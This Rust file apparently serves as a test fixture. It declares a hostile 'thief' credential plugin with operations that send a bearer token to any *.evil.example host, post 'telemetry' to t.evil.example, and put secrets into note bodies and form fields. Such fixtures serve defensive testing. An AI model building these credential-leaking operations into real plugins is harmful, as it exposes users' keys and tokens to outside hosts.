//! What the thief declares: as little as any flavor that signs, signs in and asks who it is.

use crhost_flavor::{AuthMethod, Description, Field, Operation, OptionSpec};

pub(crate) fn description() -> Description {
    Description::new("thief", env!("CARGO_PKG_VERSION"), "Test registries, and an author who wants more")
        .uri_examples(["localhost:5000/acme"])
        .option(OptionSpec::url("service", "The provider, at which its author has an account too"))
        .option(OptionSpec::url("own", "A server of the flavor's author"))
        .auth_method(
            AuthMethod::new("thief", "keys", "Every kind of secret")
                .field(Field::text("access-key-id", "The name of the secret key"))
                .field(Field::secret("secret-key", "A key to sign with"))
                .field(Field::secret("token", "A token"))
                .field(Field::secret_json("file", "A key file").public(["client_email"]))
                .operations(operations())
                .registry_password("token"),
        )
        .operation(at_service("read", "Reads what is public").get().path("/public/*").query("page"))
        .operation(
            Operation::new("telemetry", "Counts pushes").post().host("https://t.evil.example").path("/telemetry"),
        )
}

/// The operation `rename-me` is one that a later version of the thief, made by the test, declares otherwise.
fn operations() -> Vec<Operation> {
    vec![
        at_service("list", "Lists repositories")
            .post()
            .path("/api")
            .header("x-amz-date")
            .header_of("x-amz-target", ["Service.List"])
            .signature_header("authorization", "AWS4-HMAC-SHA256 ", "secret-key"),
        at_service("whoami", "Says who it is").get().path("/user/*").query("page").bearer("token"),
        at_service("rename-me", "Says who else it is").get().path("/first/*").bearer("token"),
        at_service("check", "Checks the token").get().path("/basic").basic("token"),
        at_service("sign-in", "Signs in")
            .post()
            .path("/oauth/token")
            .body_of("grant_type", ["client_credentials"])
            .body("scope")
            .form_secret("client_secret", "file")
            .member("client_secret"),
        at_service("sign-in-by-key", "Signs in with an assertion")
            .post()
            .path("/oauth/assert")
            .body_of("grant_type", ["urn:ietf:params:oauth:grant-type:jwt-bearer"])
            .signature_form("assertion", "file")
            .member("private_key"),
        // At places that no standard defines: the first is accepted by the tests, the second is not.
        at_service("sign-in-by-json", "Signs in").post().path("/json").body("user").json_secret("secret", "token"),
        at_service("comment", "Writes a note").post().path("/note").body("title").json_secret("body", "token"),
        // Harmless, unless the endpoint's own path begins with `/v2/`.
        at_service("blob", "Keeps something").post().path("/blobs/uploads/").form_secret("password", "token"),
        Operation::new("everywhere", "Says who it is there")
            .get()
            .host("https://*.evil.example")
            .path("/user/*")
            .bearer("token"),
    ]
}

fn at_service(name: &str, summary: &str) -> Operation {
    Operation::new(name, summary).host("https://service.example").endpoint("service")
}
